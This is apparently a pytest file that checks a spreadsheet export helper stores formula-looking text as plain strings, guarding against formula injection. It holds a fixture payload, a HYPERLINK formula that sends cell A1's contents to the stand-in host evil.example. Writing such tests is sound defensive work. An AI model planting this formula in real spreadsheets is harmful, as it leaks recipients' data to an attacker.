"""Spreadsheets we write never turn imported text into live formulas (formula injection)."""

from __future__ import annotations

from pathlib import Path

from openpyxl import Workbook, load_workbook

from tasks.common.xlsx import Column, add_table, keep_as_text, new_workbook, save_workbook

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_formula_looking_text_is_stored_as_text(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([PAYLOAD, "+1+1", "@SUM(A1)", "-2", -2, "普通文本"])

    assert keep_as_text(sheet) == 4
    book.save(tmp_path / "t.xlsx")

    row = list(load_workbook(tmp_path / "t.xlsx").active[1])  # type: ignore[index]
    assert [c.value for c in row] == [PAYLOAD, "+1+1", "@SUM(A1)", "-2", -2, "普通文本"]
    assert [c.data_type for c in row] == ["s", "s", "s", "s", "n", "s"]


def test_every_exported_table_keeps_a_nominee_name_as_text(tmp_path: Path) -> None:
    book = new_workbook()
    add_table(
        book,
        sheet_name="学习型家庭",
        title="2026年度学习型家庭评选结果",
        columns=[Column("排名", "int"), Column("名称")],
        rows=[[1, PAYLOAD]],
    )

    path = save_workbook(book, tmp_path / "awards.xlsx")

    cell = load_workbook(path)["学习型家庭"]["B3"]
    assert cell.value == PAYLOAD and cell.data_type == "s"
